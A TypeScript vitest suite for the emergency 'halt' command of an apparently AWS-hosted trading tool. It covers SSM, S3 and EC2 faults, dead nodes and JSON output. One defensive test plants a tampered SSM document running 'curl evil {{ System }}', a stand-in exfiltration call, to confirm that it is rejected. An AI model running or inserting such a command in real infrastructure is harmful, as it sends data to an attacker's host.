import { StopInstancesCommand } from "@aws-sdk/client-ec2"
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest"
import { acquireLocks } from "../../src/aws/state/lock.ts"
import { readLedger } from "../../src/aws/trading/ledger.ts"
import { markerKey, readMarker } from "../../src/aws/trading/marker.ts"
import { tradingKey } from "../../src/aws/trading/record.ts"
import type { System } from "../../src/nodes/systems.ts"
import { lockSettings } from "../aws/state/bucket.ts"
import { runs } from "../nodes/traders.ts"
import { type World, world } from "./small-world.ts"
import { type Prepared, prepared, scope, type TradingGround, tradingGround } from "./trading-ground.ts"

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 })

let five: Prepared
let on: TradingGround
let at: World

beforeAll(async () => {
  five = await prepared(5)
})
beforeEach(async () => {
  on = await tradingGround(five)
  at = world()
  at.aws = on.cloud
  at.records.push(scope)
  await on.record({ "smart-0dte": { mode: "live" }, "mag7-7dte": {} })
  for (const system of ["smart-0dte", "mag7-7dte"] as const)
    Object.assign(on.machines.standing(on.nodes[0] ?? "", system), runs(system === "smart-0dte" ? "live" : "testing"))
  on.watch()
})
afterEach(() => on.close())

/** How it ended, and how many seconds of the account's time it took. */
async function halt(line = "halt --env poc"): Promise<{ readonly code: number; readonly seconds: number }> {
  const begun = on.cloud.clock.now()
  const code = await at.run(line)
  return { code, seconds: (on.cloud.clock.now() - begun) / 1000 }
}

const latches = (system: System) => on.nodes.map((node) => on.machines.standing(node, system).latch)
const all = (value: string) => on.nodes.map(() => value)
const first = () => on.nodes[0] ?? ""
const last = () => on.nodes.at(-1) ?? ""
/** Its agent speaks no more, and it looks at nothing. */
function silence(node: string): void {
  on.machines.dead.add(node)
  on.sandbox.world.faults.set([{ name: "agent", operation: `agent:${node}` }])
}
const down = (name: "error500" | "hang", operation: string) => on.sandbox.world.faults.set([{ name, operation }])

describe("halt", () => {
  it("halts both systems on all nodes, in the record and by the marker, and writes it down", async () => {
    const { code, seconds } = await halt()
    expect(at.said.err).not.toContain("error")
    expect(code).toBe(0)
    expect(seconds).toBeLessThan(5)
    for (const system of ["smart-0dte", "mag7-7dte"] as const) {
      expect(latches(system)).toEqual(all("yes"))
      expect((await on.read())?.systems[system]?.trading).toBe("halted")
      expect((await readMarker(on.objects, scope, system))?.halted).toBe(true)
    }
    const events = (await readLedger(on.objects, scope, 10)).map(({ event, by }) => `${event} ${by}`)
    expect(events.toSorted()).toEqual([`halt-begin ${on.cloud.arn}`, `halt-end ${on.cloud.arn}`])
    for (const node of on.nodes) expect(at.said.out).toContain(`smart-0dte on ${node}`)
  })

  it("says what may remain at the broker, and how to reach it without this tool", async () => {
    await halt()
    expect(at.said.out).toMatch(/at the broker remain: working orders of smart-0dte,.*open positions/s)
    expect(at.said.out).toContain("telephone")
    at.said.out = ""
    await on.record({ "smart-0dte": {}, "mag7-7dte": {} })
    await halt()
    expect(at.said.out).toContain("they traded on paper")
  })

  it("asks nobody, takes no lock, and wants no configuration that can be read", async () => {
    at.settings.file = "env: [poc"
    at.env.SMART0DTE_ENV = "poc"
    expect((await halt("halt")).code).toBe(0)
    expect(at.said.err).toContain("the configuration is not used")
    expect(at.asked).toEqual([])
    expect(at.journal.filter((entry) => entry.startsWith("lock"))).toEqual([])
    expect(latches("smart-0dte")).toEqual(all("yes"))
  })

  it("of one system leaves the other one alone", async () => {
    expect((await halt("halt --env poc --system mag7-7dte")).code).toBe(0)
    expect(latches("mag7-7dte")).toEqual(all("yes"))
    expect(latches("smart-0dte")).toEqual(all("no"))
    expect((await on.read())?.systems["smart-0dte"]?.trading).toBe("active")
    expect(await readMarker(on.objects, scope, "smart-0dte")).toBeUndefined()
  })

  it("takes the gateways away only when it is told to", async () => {
    await halt()
    expect(on.machines.orders.filter((order) => order.startsWith("halt")).every((order) => order.endsWith("no"))).toBe(
      true,
    )
    on.machines.orders.length = 0
    await halt("halt --env poc --now")
    expect(on.machines.orders).toHaveLength(10)
    expect(on.machines.orders.every((order) => order.endsWith("yes"))).toBe(true)
  })

  it("names the node that is dead within five seconds, and has halted all others", async () => {
    silence(last())
    const { code, seconds } = await halt()
    expect(code).toBe(1)
    expect(seconds).toBeLessThan(5)
    expect(at.said.out).toMatch(new RegExp(`smart-0dte on ${last()} +not confirmed`))
    expect(at.said.out).not.toMatch(new RegExp(`on ${first()} +not confirmed`))
    expect(latches("smart-0dte")).toEqual([...all("yes").slice(1), "no"])
    expect((await on.read())?.systems["smart-0dte"]?.trading).toBe("halted")
    expect(at.said.out).toContain("smart0dte mode --env poc")
  })

  it("waits for no other run that holds the environment's lock, nor for the node that is dead", async () => {
    const other = await acquireLocks(lockSettings(on.cloud), [scope])
    silence(last())
    expect(at.settings.file).toBeUndefined()
    const { code, seconds } = await halt()
    expect(code).toBe(1)
    expect(seconds).toBeLessThan(5)
    expect(at.said.out).toMatch(new RegExp(`mag7-7dte on ${last()} +not confirmed`))
    expect(latches("mag7-7dte")).toEqual([...all("yes").slice(1), "no"])
    expect((await on.read())?.systems["mag7-7dte"]?.trading).toBe("halted")
    // The other one has it still, and may go on.
    expect(other.mayChange).not.toThrow()
    await other.release()
  })

  it("says why a node could not, and does not take its report for an answer", async () => {
    Object.assign(on.machines.standing(first(), "smart-0dte"), runs("live"))
    on.machines.fails.set(first(), "the trading services of smart-0dte could not be stopped: abc")
    const { code } = await halt("halt --env poc --system smart-0dte")
    expect(code).toBe(1)
    expect(at.said.out).toMatch(/could not be\s+stopped/)
  })

  it("has an object for each answer, and a summary, for programs", async () => {
    silence(last())
    await halt("halt --env poc --output json")
    const lines = at.lines()
    const rows = lines.filter(({ type }) => type === "halt")
    expect(rows).toHaveLength(10)
    expect(rows).toContainEqual(expect.objectContaining({ node: last(), state: "not confirmed" }))
    expect(rows).toContainEqual(
      expect.objectContaining({ node: first(), system: "smart-0dte", state: "halted", environment: scope }),
    )
    expect(lines.at(-1)).toMatchObject({ type: "summary", outcome: "failed", systems: ["smart-0dte", "mag7-7dte"] })
  })

  it("counts a stopped instance as one that trades nothing", async () => {
    await on.cloud.ec2.send(new StopInstancesCommand({ InstanceIds: [last()] }))
    on.sandbox.world.clock.advance(120_000)
    const { code } = await halt()
    expect(at.said.out).toMatch(new RegExp(`on ${last()} +stopped`))
    expect(code).toBe(0)
  })
})

describe("where something is out of reach", () => {
  it.each(["error500", "hang"] as const)("the marker halts without commands (%s)", async (fault) => {
    down(fault, "ssm:(SendCommand|GetDocument|GetCommandInvocation)")
    const { code, seconds } = await halt("halt --env poc --system smart-0dte")
    expect(seconds).toBeLessThan(5)
    expect(on.machines.orders).toEqual([])
    await on.soon(() => expect(latches("smart-0dte")).toEqual(all("yes")))
    // One report for all nodes: only whoever spoke last is known.
    expect(code).toBe(1)
    expect((await on.read())?.systems["smart-0dte"]?.trading).toBe("halted")
  })

  it("all of Systems Manager, the marker still halts, and whoever asked knows that nobody confirmed", async () => {
    down("error500", "ssm:.*")
    const { code, seconds } = await halt()
    expect(code).toBe(1)
    expect(seconds).toBeLessThan(5)
    for (const node of on.nodes) expect(at.said.out).toMatch(new RegExp(`smart-0dte on ${node} +not confirmed`))
    await on.soon(() => expect(latches("mag7-7dte")).toEqual(all("yes")))
  })

  it.each(["error500", "hang"] as const)("all of S3, commands still halt (%s)", async (fault) => {
    down(fault, "s3:.*")
    const { code, seconds } = await halt()
    expect(seconds).toBeLessThan(8)
    expect(code).toBe(1)
    expect(latches("smart-0dte")).toEqual(all("yes"))
    expect(at.said.out).toContain("the trading record may not say so")
    expect(at.said.out).toContain("halt marker could not be set")
  })

  it("a record that nobody can read keeps no node from halting", async () => {
    const { etag } = await on.objects.get(tradingKey(scope))
    await on.objects.put(tradingKey(scope), "nonsense", etag)
    const { code, seconds } = await halt()
    expect(seconds).toBeLessThan(5)
    expect(code).toBe(1)
    expect(latches("smart-0dte")).toEqual(all("yes"))
    expect((await on.objects.get(markerKey(scope, "smart-0dte"))).text).toMatch(/^halt\n/)
    expect(at.said.out).toContain("at the broker remain")
  })

  it("EC2, those that trade by the record are told, and it is said that there may be others", async () => {
    down("error500", "ec2:.*")
    const { code, seconds } = await halt()
    expect(seconds).toBeLessThan(5)
    expect(code).toBe(1)
    expect(on.machines.standing(first(), "smart-0dte").latch).toBe("yes")
    expect(at.said.out).toMatch(/only those that trade by\s+the record were told/)
  })

  it("its ledger keeps nothing back", async () => {
    down("error500", "s3:PutObject")
    const { code } = await halt()
    expect(code).toBe(1)
    expect(latches("smart-0dte")).toEqual(all("yes"))
  })

  it("a document that says something else is not run: the marker halts", async () => {
    const { UpdateDocumentCommand, UpdateDocumentDefaultVersionCommand } = await import("@aws-sdk/client-ssm")
    const content = {
      schemaVersion: "2.2",
      parameters: { System: { type: "String" }, Now: { type: "String" }, Run: { type: "String" } },
      mainSteps: [{ action: "aws:runShellScript", name: "x", inputs: { runCommand: ["curl evil {{ System }}"] } }],
    }
    const Name = "smart0dte-poc-halt"
    const Content = JSON.stringify(content)
    await on.cloud.ssm.send(new UpdateDocumentCommand({ Name, Content, DocumentVersion: "$LATEST" }))
    await on.cloud.ssm.send(new UpdateDocumentDefaultVersionCommand({ Name, DocumentVersion: "2" }))
    const { code } = await halt("halt --env poc --system smart-0dte")
    expect(code).toBe(1)
    expect(on.machines.orders).toEqual([])
    expect(at.said.out).toMatch(/does not\s+say\s+what\s+this\s+version/)
    await on.soon(() => expect(latches("smart-0dte")).toEqual(all("yes")))
  })
})

describe("without a name, of those that are found", () => {
  it("it halts each environment that has a live system", async () => {
    at.records.push("prod")
    const { code } = await halt("halt")
    expect(code).toBe(0)
    expect(at.said.err).toContain("halting smart-0dte and mag7-7dte of poc\n")
    expect(latches("smart-0dte")).toEqual(all("yes"))
  })

  it("it halts all of them where none is live", async () => {
    await on.record({ "smart-0dte": {}, "mag7-7dte": { mode: "development" } })
    at.records.push("prod")
    await halt("halt")
    expect(at.said.err).toContain("halting smart-0dte and mag7-7dte of poc, prod\n")
    expect(latches("smart-0dte")).toEqual(all("yes"))
  })

  it("it finds one by its nodes where its record is gone", async () => {
    at.records.length = 0
    expect((await halt("halt")).code).toBe(0)
    expect(latches("smart-0dte")).toEqual(all("yes"))
  })

  it("a record that cannot be read may be of a live one", async () => {
    const { etag } = await on.objects.get(tradingKey(scope))
    await on.objects.put(tradingKey(scope), "nonsense", etag)
    await halt("halt")
    expect(latches("smart-0dte")).toEqual(all("yes"))
  })
})

it("where there is no environment, it says so and ends with 1", async () => {
  const none = await tradingGround(await prepared(0))
  at.aws = none.cloud
  at.records.length = 0
  expect(await at.run("halt")).toBe(1)
  expect(at.said.err).toContain("no environment is found in account 111122223333, us-east-1")
  await none.close()
})
